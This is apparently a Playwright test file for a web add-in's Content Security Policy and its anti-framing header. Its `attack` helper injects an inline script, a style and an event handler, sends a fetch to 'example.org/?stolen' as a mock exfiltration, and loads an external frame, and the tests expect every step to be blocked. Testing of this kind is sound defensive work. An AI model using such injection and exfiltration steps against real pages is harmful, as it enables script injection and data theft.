import type { Server } from "node:http";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { BrowserContext, Page } from "playwright-core";
import sirv from "sirv";
import { listen } from "../../scripts/server";
import { openExample, openTab } from "./paneFrame";
import { brokenRules } from "./policyKept";
import { newPage } from "./slowMachine";
import { startWorkbench, type Workbench } from "./workbenchPage";

const VIEWS = [
  ...["Avvikelse", "Retro", "Egen regi", "Prognos", "Uppföljning", "Ärenden", "Jämförelse"],
  ...[
    "Avstämning",
    "Rapport",
    "Osäkerhet",
    "Öppna data",
    "Funktioner",
    "Parametrar",
    "Årskontroll",
    "Om",
  ],
];

let workbench: Workbench;
let context: BrowserContext;
/** The build behind a server that sets no header at all: only what the pages say themselves holds. */
let plain: Server;
/** Another host, whose pages show the one of the build that they are asked for in a frame. */
let other: Server;

const addressOf = (server: Server, host: string): string =>
  `http://${host}:${(server.address() as AddressInfo).port}`;

beforeAll(async () => {
  workbench = await startWorkbench();
  context = await workbench.visitor();
  plain = createServer(sirv(join(__dirname, "../../dist"), { dev: true, extensions: [] }));
  await listen(plain, 0);
  other = createServer((request, response) => {
    response.setHeader("Content-Type", "text/html");
    const shown = new URL(request.url ?? "", "http://other").searchParams.get("page") ?? "";
    response.end(`<iframe src="${shown}"></iframe>`);
  });
  await listen(other, 0);
});

afterAll(async () => {
  await workbench.close();
  for (const server of [plain, other]) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});

/** Tries what a text that has become code would try. */
async function attack(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const done: string[] = [];
    const mark = (what: string): void => void done.push(what);
    (window as unknown as { mark: typeof mark }).mark = mark;
    const script = document.createElement("script");
    script.textContent = "window.mark('script')";
    document.body.append(script);
    const style = document.createElement("style");
    style.textContent = "body { outline-color: rgb(1, 2, 3) }";
    document.head.append(style);
    if (getComputedStyle(document.body).outlineColor === "rgb(1, 2, 3)") mark("style");
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.mark('handler')");
    document.body.append(button);
    button.click();
    for (const each of [script, style, button]) each.remove();
    await fetch("https://example.org/?stolen").then(
      () => mark("fetch"),
      () => undefined,
    );
    const frame = document.createElement("iframe");
    frame.src = "https://example.org/";
    document.body.append(frame);
    await new Promise((resolve) => frame.addEventListener("load", resolve));
    frame.remove();
    return done;
  });
}

const REFUSED = [
  "connect-src",
  "frame-src",
  "script-src-attr",
  "script-src-elem",
  "style-src-elem",
];

test("every view of the pane keeps to the policy that the page itself carries", async () => {
  const page = await newPage(context);
  await page.goto(`${addressOf(plain, "localhost")}/taskpane.html`);
  await page.waitForSelector("[role=tab]");
  for (const view of VIEWS) {
    await openTab(page, view);
    await openExample(page);
  }
  expect(brokenRules()).toEqual([]);
  // Fluent's own rules are there though no style element with a rule is let in.
  const rules = await page.evaluate(
    () => [...document.styleSheets].find(({ href }) => href === null)?.cssRules.length,
  );
  expect(rules).toBeGreaterThan(20);
  await page.close();
});

const PAGES = ["taskpane.html", "index.html", "help/index.html", "licenses/add-in.html"];

describe.each(["with the server's headers", "where a plain server stands"])("%s", (where) => {
  test.each(PAGES)("/%s refuses what was not built", async (path) => {
    const server = where.startsWith("with")
      ? workbench.address
      : `${addressOf(plain, "localhost")}/`;
    const page = await newPage(context);
    await page.goto(`${server}${path}`);
    if (path === "taskpane.html") await page.waitForSelector("[role=tab]");
    if (path === "index.html") await page.waitForSelector(".o-grid canvas");
    expect(brokenRules()).toEqual([]);
    expect(await attack(page)).toEqual([]);
    const refused = brokenRules().map((rule) => rule.split(" ")[1]);
    expect([...new Set(refused)].sort()).toEqual(REFUSED);
    await page.close();
  });
});

test.each(PAGES)(
  "no other host may show /%s in a frame, which only the header can refuse",
  async (path) => {
    const page = await newPage(context);
    const shown = async (address: string): Promise<string> => {
      // The error page of a refused frame may come after the page around it has loaded.
      const framed = page.waitForEvent("framenavigated", (frame) =>
        /^[a-z-]+:\/\//.test(frame.parentFrame() === null ? "" : frame.url()),
      );
      const asked = encodeURIComponent(`${address}${path}`);
      await page.goto(`${addressOf(other, "127.0.0.1")}/?page=${asked}`);
      return (await framed).url();
    };
    expect(await shown(workbench.address)).toMatch(/^chrome-error:/);
    // What docs/sakerhet.md says of a plain server.
    const unprotected = `${addressOf(plain, "localhost")}/`;
    expect(await shown(unprotected)).toBe(`${unprotected}${path}`);
    await page.close();
    brokenRules();
  },
);
